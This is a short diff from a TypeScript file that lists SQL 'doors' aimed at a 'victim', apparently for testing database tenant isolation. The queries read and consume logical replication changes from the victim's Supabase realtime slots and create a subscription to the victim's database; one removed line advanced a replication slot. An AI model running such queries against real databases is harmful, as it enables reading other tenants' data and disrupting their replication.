@@ -182,7 +182,6 @@ export const SQL_DOORS: SqlDoor[] = [
       [slotOf(victim), "supabase_realtime_messages_replication_slot__plane"].flatMap((slot) => [
         `select * from pg_logical_slot_peek_binary_changes('${slot}', null, 1, 'proto_version', '1', 'publication_names', 'supabase_realtime')`,
         `select * from pg_logical_slot_get_binary_changes('${slot}', null, 1, 'proto_version', '1', 'publication_names', 'supabase_realtime')`,
-        `select pg_replication_slot_advance('${slot}', pg_current_wal_lsn())`,
       ]).concat(`create subscription x connection '${connection(victim, "database")}' publication supabase_realtime`, "select pg_create_restore_point('x')"),
   },
   {
